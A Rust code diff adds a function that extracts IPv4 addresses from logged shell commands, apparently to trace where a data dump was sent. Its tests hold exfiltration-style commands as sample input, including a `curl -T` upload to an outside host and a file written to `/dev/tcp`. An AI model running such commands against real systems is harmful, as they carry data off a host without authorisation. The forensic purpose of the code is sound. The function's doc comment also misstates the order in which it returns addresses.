@@ -1,7 +1,8 @@
-//! The data files that a command line names (`unmapped.files`): by them a dump is followed from the host where it was
-//! made to the one where it is read in.
+//! What a command line names: data files (`unmapped.files`), by which a dump is followed from the host where it was made to the
+//! one where it is read in, and addresses (`unmapped.addresses`), which say where it went.
 
 use std::collections::BTreeSet;
+use std::net::Ipv4Addr;
 
 /// Names that are returned at most, of one command line.
 const NAMES_MAX: usize = 16;
@@ -32,6 +33,21 @@ pub fn data_files(commands: &[String]) -> BTreeSet<String> {
         }
     }
     names
+}
+
+/// The IPv4 addresses that simple commands name, other than loopback, in the order of their text. At most 16.
+#[must_use]
+pub fn addresses(commands: &[String]) -> BTreeSet<String> {
+    let words = commands
+        .iter()
+        .flat_map(|c| c.split(|c: char| !(c.is_ascii_digit() || c == '.')));
+    words
+        .filter(|word| word.len() >= "0.0.0.0".len())
+        .filter_map(|word| word.trim_end_matches('.').parse::<Ipv4Addr>().ok())
+        .filter(|address| !address.is_loopback() && !address.is_unspecified())
+        .map(|address| address.to_string())
+        .take(NAMES_MAX)
+        .collect()
 }
 
 /// The file's name in a word such as `root@lab-9:/tmp/crm.sql.gz`, `--file=crm.dump` or `'/tmp/c.csv');`.
@@ -85,6 +101,19 @@ mod tests {
         check("curl https://www.example.com/index.html", &[]);
         check("ls *.sql; rm $F.sql; echo .sql .gz", &[]);
         check("systemctl restart crm.service", &[]);
+    }
+
+    #[test]
+    fn addresses_are_named_wherever_they_stand() {
+        let check = |line: &str, expected: &[&str]| {
+            let found = addresses(&simple_commands(line));
+            assert_eq!(found.iter().map(String::as_str).collect::<Vec<_>>(), expected, "{line}");
+        };
+        check("scp /tmp/a b@10.8.1.9:/tmp/", &["10.8.1.9"]);
+        check("curl -T a http://203.0.113.7:8080/x", &["203.0.113.7"]);
+        check("cat a > /dev/tcp/10.8.1.9/443", &["10.8.1.9"]);
+        check("mysql --host=10.8.1.9; ping 10.8.1.10.", &["10.8.1.10", "10.8.1.9"]);
+        check("curl 127.0.0.1; nc -l 0.0.0.0; v 1.2.3; x 300.1.2.3", &[]);
     }
 
     #[test]
